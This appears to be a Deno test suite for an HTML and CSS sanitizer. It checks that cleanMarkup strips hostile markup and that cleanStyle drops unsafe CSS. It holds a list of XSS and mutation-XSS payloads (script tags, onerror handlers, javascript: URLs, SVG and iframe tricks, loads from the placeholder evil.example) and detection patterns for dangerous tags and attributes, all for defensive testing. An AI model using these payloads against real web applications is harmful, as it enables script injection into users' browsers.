import assert from "node:assert/strict";
import fc from "fast-check";
import { anyText } from "../base/testing/any_text.ts";
import { parseHTML } from "linkedom";
import { cleanMarkup, escapeText } from "./clean_markup.ts";
import { cleanStyle } from "./clean_style.ts";

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT src=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/pixel.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  "<svg><style>@import url(//evil.example)</style></svg>",
  '<svg><rect fill="url(//evil.example/x#y)"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<form action="//evil.example"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example"><link rel=stylesheet href=//evil.example>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  "<textarea></textarea><script>alert(1)</script>",
  "<xmp><script>alert(1)</script></xmp>",
  "<template><script>alert(1)</script></template>",
  "<plaintext><script>alert(1)</script>",
  "<b <script>alert(1)</script>",
  "<!--<script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
];

function assertHarmless(clean: string, given: string): void {
  const { document } = parseHTML(`<html><body>${clean}</body></html>`);
  for (const element of document.body.querySelectorAll("*")) {
    const name = element.localName.toLowerCase();
    assert.ok(
      !/^(script|style|iframe|form|meta|base|link|object|embed|foreignobject|template|button)$/.test(name),
      `${name} of ${given}`,
    );
    for (const { name: attribute, value } of element.attributes) {
      assert.ok(!/^on/i.test(attribute), `${attribute} of ${given}`);
      assert.ok(
        !/javascript:|evil\.example|position|srcdoc/i.test(attribute + value) || attribute === "title" ||
          attribute === "alt",
        `${attribute}=${value} of ${given}`,
      );
    }
  }
}

Deno.test("cleanMarkup() leaves nothing that runs or loads when markup is hostile", () => {
  for (const attack of ATTACKS) {
    assertHarmless(cleanMarkup(attack), attack);
    assert.equal(cleanMarkup(cleanMarkup(attack)), cleanMarkup(attack), "cleaning twice changes nothing");
  }
});

Deno.test("cleanMarkup() leaves nothing that runs when attacks are mixed at random", () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.string({ unit: "grapheme" }),
    fc.constantFrom("<svg>", "</svg>", "<title>", "<p>", "<table>", '"', "'", "<", "/>", "<!--", "-->"),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const given = pieces.join("");
      assertHarmless(cleanMarkup(given), given);
    }),
    { numRuns: 200 },
  );
});

Deno.test("cleanMarkup() keeps tables, figures and pictures as they were", () => {
  const table =
    '<table><thead><tr><th scope="col" style="text-align:left;vertical-align:top">a</th></tr></thead></table>';
  assert.equal(cleanMarkup(table), table);
  const svg =
    '<svg viewBox="0 0 8 8" role="img"><title>T</title><defs><pattern id="hatch" patternUnits="userSpaceOnUse"><line x1="0"></line></pattern>' +
    '<clipPath id="c"></clipPath></defs><rect fill="url(#hatch)" clip-path="url(#c)"></rect></svg>';
  const clean = cleanMarkup(svg, { idPrefix: "f1-" });
  assert.match(clean, /viewBox="0 0 8 8"/);
  assert.match(clean, /<pattern id="f1-hatch" patternUnits=/);
  assert.match(clean, /<clipPath id="f1-c">/);
  assert.match(clean, /fill="url\(#f1-hatch\)" clip-path="url\(#f1-c\)"/);
  assert.match(
    cleanMarkup('<img alt="A" src="data:image/png;base64,AAAA">'),
    /src="data:image\/png;base64,AAAA"/,
  );
  assert.match(cleanMarkup('<a href="https://example.org/x">x</a>'), /href="https:\/\/example\.org\/x"/);
});

Deno.test("cleanMarkup() makes links of what stands for rows when told where they are", () => {
  const svg = '<svg><g data-rows="length=1&amp;depth=2"><title>one cell</title><rect></rect></g></svg>';
  assert.match(
    cleanMarkup(svg, { rowsHref: (rows) => `rows.html#${rows}` }),
    /<a href="rows\.html#length=1&#38;depth=2" aria-label="one cell"><g><title>one cell<\/title><rect><\/rect><\/g><\/a>/,
  );
  assert.ok(!cleanMarkup(svg).includes("<a"));
});

Deno.test("cleanStyle() keeps looks and drops what leaves its place or loads", () => {
  assert.equal(cleanStyle("text-align:right; vertical-align: top"), "text-align:right;vertical-align:top");
  for (
    const bad of [
      "position:fixed",
      "background:url(x)",
      "background:image-set('x')",
      "width:expression(1)",
      "display:contents",
      "margin:calc(1px",
      "color:\\72 ed",
      "--x:1",
    ]
  ) assert.equal(cleanStyle(bad), "", bad);
});

Deno.test("escapeText() leaves no character that markup is made of", () => {
  fc.assert(fc.property(anyText(), (text) => {
    const safe = escapeText(text);
    assert.ok(!/[<>"'`\0]|&(?!#\d+;)/.test(safe) && safe.isWellFormed());
  }));
});
